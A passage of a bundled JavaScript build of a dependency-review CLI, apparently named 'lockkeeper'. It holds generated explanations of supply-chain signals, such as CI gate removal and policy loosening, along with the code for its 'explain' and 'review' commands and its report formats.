      "- A job that has the gate's name or id, and was not there before: flagged. A name with an expression in it that can turn out to be the gate's: milder.",
      "- The gate's own job: taken away, under a condition, or allowed to fail; its event taken away. Filters for paths and branches, and the same conditions on its steps: milder.",
      "- The policy, where it opens wide: a signal switched off, no cooldown or an exception from it for everything, a rule that switches something off for more than named packages or lockfiles, lockfiles left out, a reason for not knowing that only notes, code that is not read, a name taken out of `internal`: flagged.",
      "- The policy, where it opens a little: a lower level, a shorter cooldown or an exception by name, a looser rule, rules in another order, a higher rarity, a higher severity, another host with weak hashes, one source of advisories less, a new or longer acknowledgement, or a setting that this comparison does not know: milder.",
      "What is not named counts with its default. An acknowledgement that a pull request adds does not count for that pull request.",
      "It blocks. The review is held to the policy of base, so none of this takes effect for the pull request itself."
    ]
  ],
  [
    "setting-unreadable",
    [
      "Each file is read by the rules of its package manager: `.npmrc` as npm's own reader does, with the variables of the environment left open. Refused are: text that is not in its format; keys that stand twice; merge keys, tags and several documents in YAML; a key that a variable decides; line ends that only some readers see; more than 256 KiB (1 MiB for `package.json`), and values that nest too deep.",
      "A file that cannot be read at head blocks, and none of its settings is judged. Milder: a file that could not be read at base, whose settings then all count as new; and the files of editors where no lockfile changed."
    ]
  ]
  // generated: end
]);

// src/explain/explain-signal.ts
var explainSignal = (id, policy) => {
  const level = changeLevels.get(id) ?? projectLevels.get(id);
  if (level === void 0) return void 0;
  const page = pages.find((one) => one.id === id);
  const signal = signals.find((one) => one.id === id);
  const rows = [
    ["by default", meaning[level]],
    ...settingRows(id, policy),
    ["looks at", signal === void 0 ? "a file of the repository" : signal.on.join(", ")],
    ["needs", signal?.needs.join(", ") ?? ""],
    ["seen in", rates(id, false)],
    ["milder form in", rates(id, true)],
    ["blocks with", partnersOf(id)],
    ["cooldown", id === "release-age" ? formatSpan(policy.cooldownMs) : ""],
    ["weighed", rates(id, false) === "" ? "" : thresholds(policy)],
    ["caught", signal?.answers.join(", ") ?? ""]
  ];
  const width = Math.max(...rows.map(([title, text]) => text === "" ? 0 : title.length)) + 2;
  return [
    id,
    ...folded(page?.asks ?? signal?.asks ?? "", "  "),
    "",
    ...rows.flatMap(
      ([title, text]) => text === "" ? [] : folded(`${title.padEnd(width)}${text}`, "  ", " ".repeat(width + 2))
    ),
    ...section("How it decides", decisions.get(id) ?? []),
    ...section(
      "What to do",
      (page?.todo ?? []).map((step2, i) => `${i + 1}. ${step2}`)
    ),
    ""
  ].join("\n");
};
var listSignals = (policy) => [
  ...[...changeLevels, ...projectLevels].map(
    ([id, level]) => `${id.padEnd(26)}${policy.levels.get(id) ?? level}`
  ),
  "",
  'Say which: "lockkeeper explain new-publisher", or a release, such as "lockkeeper explain name@1.2.3".',
  ""
].join("\n");
var meaning = {
  off: "off: it is not asked",
  note: "note: it is shown, and does nothing to the verdict",
  weigh: "weigh: it counts by how rare it is, together with the other signs of a change",
  warn: "warn, or more where the signs of a change are rare enough together",
  block: "block"
};
var settingRows = (id, { path, levels, rules }) => {
  const own = levels.get(id);
  const by = visible(path ?? "the policy");
  return [
    ...own === void 0 ? [] : [[`by ${by}`, meaning[own]]],
    ...rules.flatMap(({ of, levels: ofRule }) => {
      const level = ofRule.get(id);
      if (level === void 0) return [];
      const whom = [...of.packages ?? [], ...of.scopes ?? [], ...of.lockfiles ?? []].map(visible);
      return [[`by ${by}`, `${level} for ${whom.length === 0 ? "some changes" : whom.join(", ")}`]];
    })
  ];
};
var thresholds = ({ rarity: { warn, block } }) => `a change warns from 1 in ${formatOneIn(warn)} on and blocks from 1 in ${formatOneIn(block)} on`;
var rates = (signal, soft) => {
  const sign = { signal, soft };
  const parts = steps.flatMap((step2) => {
    const oneIn = rarityOf(sign, step2);
    return oneIn === void 0 ? [] : [`1 of ${formatOneIn(oneIn)} ${stepNames[step2]}`];
  });
  const [first = ""] = parts;
  if (soft && rates(signal, false) === parts.join(", ")) return "";
  return isMeasured(sign) ? parts.join(", ") : first.replace(/ \w+ \w+$/, ", by estimate");
};
var partnersOf = (id) => combinations.filter(({ signals: named }) => named.includes(id)).map(({ signals: named, step: step2 }) => {
  const others2 = named.filter((one) => one !== id);
  const where = step2 === void 0 ? "" : `in ${stepNames[step2]}`;
  return [others2.join(", "), where].filter((part) => part !== "").join(" ");
}).join("; ");
var section = (title, paragraphs) => paragraphs.length === 0 ? [] : [
  "",
  `${title}:`,
  ...paragraphs.flatMap((text) => folded(text, "  ", /^(?:- |\d+\. )/.test(text) ? "    " : "  "))
];

// src/cli/options.ts
import { readFileSync } from "node:fs";
var policyOf = async ({ config }) => {
  if (config === void 0) return defaultPolicy;
  const { parsePolicy } = await import("./config-DMWWJKEP.js");
  return parsePolicy(readText(config), config);
};
var registryAddress = ({ registry }) => registry ?? (process.env["npm_config_registry"] || publicRegistry);
var registryOf = (values, policy) => {
  const open = (url) => createRegistry({
    url,
    allowPrivate: values["allow-private-registry"] === true,
    archiveBytes: policy.inspection.compressedBytes,
    cache: cacheOf(values)
  });
  const first = open(registryAddress(values));
  const second = values["metadata-registry"];
  return second === void 0 ? first : withSecondSource(first, open(second), (name) => isInternal(name, policy));
};
var cacheOf = (values) => {
  if (values["no-cache"] === true) return void 0;
  const folder = userCacheFolder(process.env, process.platform);
  return folder === void 0 ? void 0 : openCache(folder);
};
var inspectorOf = (values, { inspection }) => openBuiltInspector(inspection, cacheOf(values));
var instantOf = (text) => {
  if (text === void 0) return Date.now();
  const iso = /^\d{4}-\d\d-\d\d(?:T\d\d:\d\d(?::\d\d(?:\.\d+)?)?(?:Z|[+-]\d\d:\d\d))?$/;
  const ms = iso.test(text) && isDay(text.slice(0, 10)) ? Date.parse(text) : Number.NaN;
  if (Number.isNaN(ms))
    throw new UserError(`"${text}" is not a moment such as 2026-01-31 or 2026-01-31T12:00:00Z.`);
  return ms;
};
var isDay = (day) => {
  const at = Date.parse(`${day}T00:00:00Z`);
  return !Number.isNaN(at) && new Date(at).toISOString().startsWith(day);
};
var readText = (path) => {
  try {
    return readFileSync(path, "utf8");
  } catch (error) {
    throw new UserError(`${path} cannot be read (${codeOf(error)}).`);
  }
};

// src/cli/explain.ts
var explainCommand = async (subject, values) => {
  const policy = await policyOf(values);
  const asOf2 = instantOf(values["as-of"]);
  const text = subject === void 0 ? listSignals(policy) : explainSignal(subject, policy);
  if (text !== void 0) {
    process.stdout.write(text);
    return 0;
  }
  const [, name, wanted] = /^(@?[^@]+)@(.+)$/s.exec(subject ?? "") ?? [];
  if (name === void 0 || wanted === void 0)
    throw new UserError(
      `"${subject ?? ""}" is neither a signal nor a release such as name@1.2.3. "lockkeeper explain" lists the signals.`
    );
  const registry = registryOf(values, policy);
  const domains = createDomains();
  const inspector = inspectorOf(values, policy);
  try {
    const question = { name, version: wanted, registry, domains, inspector, policy, asOf: asOf2 };
    process.stdout.write(await explainRelease(question));
  } finally {
    await Promise.all([registry.close(), domains.close(), inspector.close()]);
  }
  return 0;
};

// src/cli/review.ts
import { writeFileSync } from "node:fs";

// src/reporters/index.ts
var formats = ["text", "json", "markdown", "html", "sarif"];
var render = (review2, format, options) => {
  switch (format) {
    case "text":
      return renderText(review2, options);
    case "json":
      return renderJson(review2);
    case "markdown":
      return renderMarkdown(review2, options);
    case "html":
      return renderHtml(review2, options);
    case "sarif":
      return renderSarif(review2, options);
  }
};

// src/cli/review.ts
var exitCodes = { pass: 0, warn: 0, block: 1 };
var reviewCommand = async (values) => {
  const format = formatOf(values.format ?? "text");
  const asOf2 = instantOf(values["as-of"]);
  const policy = await policyOf(values);
  const registry = registryOf(values, policy);
  const progress = openProgress(process.stderr);
  const source = await openGitSource({
    repository: values.repo ?? ".",
    base: values.base,
    head: values.head ?? "HEAD",
    progress: progress.note
  });
  const others2 = openSources({
    policy,
    registry: registryAddress(values),
    token: process.env["GITHUB_TOKEN"] || void 0,
    api: process.env["GITHUB_API_URL"] || "https://api.github.com/"
  });
  const domains = createDomains();
  const inspector = inspectorOf(values, policy);
  const result = await review({
    source,
    registry,
    advisories: others2.sources,
    domains,
    inspector,
    policy,
    asOf: asOf2,
    progress: progress.step
  });
  await Promise.all([registry.close(), others2.close(), domains.close(), inspector.close()]);
  progress.end();
  const report = render(result, format, {
    colour: values.output === void 0 && wantsColour(process.stdout),
    docs: void 0
  });
  if (values.output === void 0) process.stdout.write(report);
  else writeText(values.output, report);
  return exitCodes[result.verdict];
};
var formatOf = (name) => {
  const format = formats.find((known) => known === name);
  if (format === void 0) throw new UserError(`"${name}" is not a format: ${formats.join(", ")} are.`);
  return format;
};
var writeText = (path, text) => {
  try {
    writeFileSync(path, text);
  } catch (error) {
    throw new UserError(`${path} cannot be written (${codeOf(error)}).`);
  }
};
export {
  demo,
  explainCommand,
  reviewCommand
};
